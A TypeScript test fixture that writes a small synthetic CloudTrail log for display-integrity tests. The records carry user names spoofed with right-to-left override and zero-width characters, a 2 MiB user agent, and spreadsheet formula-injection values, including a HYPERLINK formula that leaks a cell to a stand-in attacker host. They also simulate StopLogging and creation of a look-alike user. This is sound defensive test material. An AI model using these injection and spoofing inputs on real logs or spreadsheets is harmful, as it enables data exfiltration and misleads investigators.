// A small hostile CloudTrail trail for the display-integrity tests (docs/architecture.md, "Display integrity"):
// user names holding U+202E (RIGHT-TO-LEFT OVERRIDE) and U+200B (ZERO WIDTH
// SPACE), a 2 MB user agent, and values a spreadsheet would run as formulas.
// Written by us in CloudTrail's S3 delivery format ({"Records":[…]}).
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

export const ACCOUNT = '111122223333';
export const RLO_USER = 'admin\u202Etxt.exe';
export const ZW_USER = 'backup\u200B-svc';
export const ATTACKER_IP = '198.51.100.66';
export const ZW_IP = '203.0.113.9';
/** 2 MiB of user agent (2,097,152 characters). */
export const LONG_UA = 'Mozilla/5.0 (X11; Linux x86_64) ' + 'A'.repeat(2 * 1024 * 1024 - 32);
export const FORMULA_UA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")';
export const FORMULA_ERROR = '+SUM(1,2)';
export const FORMULA_USER = '@evil';
export const FORMULA_IP = '-1+1';

export const IDS = {
  stopLogging: '00000000-0000-4000-8000-00000000e001',
  createUser: '00000000-0000-4000-8000-00000000e002',
  zeroWidth: '00000000-0000-4000-8000-00000000e003',
  longUa: '00000000-0000-4000-8000-00000000e004',
  formula: '00000000-0000-4000-8000-00000000e005',
} as const;

function user(name: string, key: string) {
  return { type: 'IAMUser', principalId: `AIDA${key.slice(4)}`, arn: `arn:aws:iam::${ACCOUNT}:user/${name}`, accountId: ACCOUNT, accessKeyId: key, userName: name };
}

function event(id: string, time: string, name: string, source: string, who: ReturnType<typeof user>, ip: string, ua: string, extra: Record<string, unknown> = {}) {
  return {
    eventVersion: '1.08',
    userIdentity: who,
    eventTime: time,
    eventSource: source,
    eventName: name,
    awsRegion: 'us-east-1',
    sourceIPAddress: ip,
    userAgent: ua,
    requestParameters: null,
    responseElements: null,
    requestID: id.replace(/^0+/, 'r'),
    eventID: id,
    readOnly: false,
    eventType: 'AwsApiCall',
    managementEvent: true,
    recipientAccountId: ACCOUNT,
    eventCategory: 'Management',
    ...extra,
  };
}

export function hostileRecords(): Record<string, unknown>[] {
  const rlo = user(RLO_USER, 'AKIAHOSTILERLO000001');
  const zw = user(ZW_USER, 'AKIAHOSTILEZW0000001');
  const real = user('backup-svc', 'AKIAHOSTILEREAL00001');
  return [
    event(IDS.stopLogging, '2026-03-04T10:00:00Z', 'StopLogging', 'cloudtrail.amazonaws.com', rlo, ATTACKER_IP, 'aws-cli/2.15.0', {
      requestParameters: { name: `arn:aws:cloudtrail:us-east-1:${ACCOUNT}:trail/main` },
    }),
    event(IDS.createUser, '2026-03-04T10:05:00Z', 'CreateUser', 'iam.amazonaws.com', rlo, ATTACKER_IP, 'aws-cli/2.15.0', {
      requestParameters: { userName: ZW_USER },
      responseElements: { user: { userName: ZW_USER, arn: `arn:aws:iam::${ACCOUNT}:user/${ZW_USER}`, userId: 'AIDAHOSTILEZW0000001', path: '/', createDate: 'Mar 4, 2026 10:05:00 AM' } },
      readOnly: false,
    }),
    event(IDS.zeroWidth, '2026-03-04T11:00:00Z', 'ListBuckets', 's3.amazonaws.com', zw, ZW_IP, 'aws-cli/2.15.0', { readOnly: true }),
    event(IDS.longUa, '2026-03-04T12:00:00Z', 'GetCallerIdentity', 'sts.amazonaws.com', real, '192.0.2.10', LONG_UA, { readOnly: true }),
    event(IDS.formula, '2026-03-04T13:00:00Z', 'ListUsers', 'iam.amazonaws.com', user(FORMULA_USER, 'AKIAHOSTILEFORMULA01'), FORMULA_IP, FORMULA_UA, { errorCode: FORMULA_ERROR, errorMessage: 'denied', readOnly: true }),
  ];
}

/** Write the trail as one CloudTrail log file into `dir`; returns its path. */
export function writeHostileTrail(dir: string): string {
  const path = join(dir, `${ACCOUNT}_CloudTrail_us-east-1_20260304T1300Z_hostile.json`);
  writeFileSync(path, JSON.stringify({ Records: hostileRecords() }));
  return path;
}
